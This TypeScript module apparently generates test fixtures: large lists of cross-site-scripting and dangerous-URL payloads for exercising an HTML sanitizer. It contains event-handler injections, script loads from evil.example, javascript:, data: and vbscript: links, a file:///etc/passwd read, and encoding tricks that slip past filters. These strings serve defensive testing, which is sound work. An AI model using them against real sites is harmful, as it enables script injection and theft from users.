/**
 * What tests put wherever people write: texts that would run a script, load something or lead away where they were taken
 * for more than words. Three kinds, more than six hundred of each.
 */

const wrappers: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<p>${inner}</p>`,
  (inner) => `<table><tr><td>${inner}</td></tr></table>`,
  (inner) => `<noscript>${inner}</noscript>`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner) => `<textarea></textarea>${inner}`,
  (inner) => `<xmp></xmp>${inner}<!--`,
];
const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus autofocus',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
];
const tags = [
  'img',
  'svg',
  'a',
  'p',
  'td',
  'aside',
  'figure',
  'iframe',
  'object',
  'math',
  'details',
  'video',
];
const others = [
  '<script>alert(1)</script>',
  '<script src=//evil.example></script>',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><button formaction=javascript:alert(1)>x</button></form>',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;img src=x onerror=alert(1)&gt;',
];

/** Of text: formatted, a comment or a name. */
export const hostileTexts: readonly string[] = wrappers.flatMap((wrap) => [
  ...events.flatMap((event) =>
    tags.map((tag) => wrap(`<${tag} ${event}=alert(1) style="background:url(//evil.example)" id=x name=y>`)),
  ),
  ...others.map(wrap),
]);

const schemes = [
  'javascript:alert(1)',
  'javascript://%0aalert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://x/1',
  'filesystem:https://x/1',
  'file:///etc/passwd',
  'view-source:file:///etc/passwd',
  'about:blank',
  'ftp://evil.example/x',
  'intent://evil.example#Intent;end',
  'ms-msdt:/id PCWDiagnostic',
  'jar:file:///x!/y',
  'chrome://settings',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example/x',
  'https:evil" onmouseover="alert(1)',
  'https://evil.example/" onmouseover="alert(1)',
  'https://evil.example/`onmouseover=alert(1)',
  "https://evil.example/' onmouseover='alert(1)",
  'http://evil.example/<script>alert(1)</script>',
  'mailto:x@evil.example"onclick="alert(1)',
];
const upperEvery = (text: string) =>
  [...text].map((sign, at) => (at % 2 === 0 ? sign.toUpperCase() : sign)).join('');
const behindFirst = (text: string, between: string) => `${text.slice(0, 2)}${between}${text.slice(2)}`;
const disguises: readonly ((address: string) => string)[] = [
  (address) => address,
  upperEvery,
  (address) => ` ${address}`,
  (address) => `\u0001${address}`,
  (address) => `\u00a0${address}`,
  (address) => `\ufeff${address}`,
  (address) => `\u200b${address}`,
  (address) => behindFirst(address, '\t'),
  (address) => behindFirst(address, '\n'),
  (address) => behindFirst(address, '\r'),
  (address) => behindFirst(address, '\u0000'),
  (address) => behindFirst(address, '&#10;'),
  (address) => behindFirst(address, '&Tab;'),
  (address) => behindFirst(address, '/**/'),
  (address) => `&#${address.codePointAt(0)};${address.slice(1)}`,
  (address) => `&#x${address.codePointAt(0)?.toString(16)};${address.slice(1)}`,
  (address) => `&#0000${address.codePointAt(0)}${address.slice(1)}`,
  (address) => address.replace(':', '&colon;'),
  (address) => address.replace(':', '&#58;'),
  (address) => address.replace(':', '%3a'),
  (address) => address.replace(':', '\uff1a'),
  (address) => `url:${address}`,
  (address) => `feed:${address}`,
  (address) => `"><script>alert(1)</script><a href="${address}`,
];

/** Where a link should lead, or a picture should come from. */
export const hostileAddresses: readonly string[] = [
  ...new Set(schemes.flatMap((address) => disguises.map((disguise) => disguise(address)))),
];

const places: readonly ((address: string) => string)[] = [
  (address) => `<img src="${address}" alt="x">`,
  (address) => `<img srcset="${address} 2x" src="${address}">`,
  (address) => `<img data-file="${address}" alt="${address}">`,
  (address) => `<picture><source srcset="${address}"><img lowsrc="${address}"></picture>`,
  (address) => `<figure data-document="${address}" data-name="${address}"><img src="${address}"></figure>`,
  (address) => `<image xlink:href="${address}"><input type=image src="${address}">`,
  (address) => `<p style="background-image:url('${address}')"><img dynsrc="${address}"></p>`,
];

/** A picture by each of these addresses, in one way and another. */
export const hostileImages: readonly string[] = hostileAddresses.map((address, at) =>
  (places[at % places.length] as (typeof places)[number])(address),
);
export const hostileLinks: readonly string[] = hostileAddresses.map(
  (address) => `<a href="${address}">x</a>`,
);
